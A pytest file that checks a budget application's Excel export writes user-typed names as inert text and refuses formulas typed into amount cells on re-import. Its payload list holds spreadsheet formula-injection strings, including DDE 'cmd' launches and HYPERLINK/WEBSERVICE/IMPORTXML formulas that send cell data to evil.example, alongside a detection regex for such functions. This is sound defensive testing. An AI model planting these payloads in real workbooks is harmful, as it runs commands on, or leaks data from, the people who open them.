"""Excel formula injection: text people typed (line names, intervention names, member names,
the plan title) reaches the exported workbook as inert text, never as a formula, and the
formulas the export writes itself are plain arithmetic. A workbook coming back with a formula
or DDE payload typed into an amount cell is not imported."""

from __future__ import annotations

import io
import re

import pytest
from openpyxl import load_workbook

excel_export = pytest.importorskip("budgets.excel_export")
excel_import = pytest.importorskip("budgets.excel_import")
services = pytest.importorskip("budgets.services")

from plans.models import Intervention  # noqa: E402
from tests.url_kwargs import walk_plan  # noqa: E402

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?d="&A1,"Klicka här")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=WEBSERVICE("https://evil.example/"&A1)',
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    'DDE("cmd";"/C calc";"!A0")',
]
DANGEROUS = re.compile(
    r"HYPERLINK|WEBSERVICE|FILTERXML|IMPORT|CALL|REGISTER|EXEC|DDE|INDIRECT|\||cmd|http",
    re.IGNORECASE,
)
SAFE_FORMULA = re.compile(r"^=[A-Z0-9$:(),+\-*/ .'!_\"ÅÄÖåäö<>=&;A-Za-z]*$")


def _workbook(plan):
    data = excel_export.export_input_for_plan(plan, exported_by="Test")
    return excel_export.workbook_bytes(data)


def test_typed_text_is_written_as_text_and_formulas_are_plain(vvnd):
    plan = walk_plan(vvnd)
    for i, payload in enumerate(PAYLOADS):
        services.budget_line_create(
            user=None, plan=plan, group="administration", name=payload, amounts=(1000 + i, 0, 0)
        )
    Intervention.objects.create(plan=plan, name=PAYLOADS[0], kind="individual")
    content = _workbook(plan)
    wb = load_workbook(io.BytesIO(content))
    seen: dict[str, int] = {}
    formulas = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f":
                    formulas += 1
                    text = str(value)
                    assert not DANGEROUS.search(text), f"{ws.title}!{cell.coordinate}: {text}"
                    assert SAFE_FORMULA.match(text), f"{ws.title}!{cell.coordinate}: {text}"
                elif isinstance(value, str):
                    for payload in PAYLOADS:
                        if payload.strip() in value:
                            assert cell.data_type == "s", f"{ws.title}!{cell.coordinate}"
                            seen[payload] = seen.get(payload, 0) + 1
    assert formulas, "the export writes its sums as formulas; none were found"
    missing = [p for p in PAYLOADS if p not in seen]
    assert not missing, f"typed names missing from the workbook: {missing}"
    # The raw XML agrees: no payload is stored inside a <f> (formula) element.
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode()
                for formula in re.findall(r"<f>(.*?)</f>", xml):
                    assert "cmd" not in formula and "HYPERLINK" not in formula.upper()


@pytest.mark.parametrize("payload", ["=cmd|' /C calc'!A0", "=1+1", '=HYPERLINK("x")', "@SUM(1)"])
def test_a_formula_typed_into_an_amount_is_not_imported(vvnd, payload):
    plan = walk_plan(vvnd)
    line = services.budget_line_create(
        user=None,
        plan=plan,
        group="administration",
        name="Revision (injektionstest)",
        amounts=(54000, 0, 0),
    )
    content = _workbook(plan)
    wb = load_workbook(io.BytesIO(content))
    ws = (
        wb[excel_export.SHEET_BUDGET] if hasattr(excel_export, "SHEET_BUDGET") else wb.worksheets[0]
    )
    target = None
    for row in ws.iter_rows():
        if any("Revision (injektionstest)" in str(c.value) for c in row):
            numbers = [c for c in row if isinstance(c.value, int | float)]
            target = next((c for c in numbers if abs(c.value) in (54000, 54)), None)
            if target is not None:
                break
    assert target is not None, "the line's amount cell was not found"
    target.value = payload
    if not payload.startswith("="):
        target.data_type = "s"
    out = io.BytesIO()
    wb.save(out)
    preview = excel_import.read_import(plan, out.getvalue(), "budget.xlsx")
    line.refresh_from_db()
    assert preview.problems, f"{payload!r} in an amount cell was accepted"
    assert not preview.changes
    assert line.amount_1 == 54000
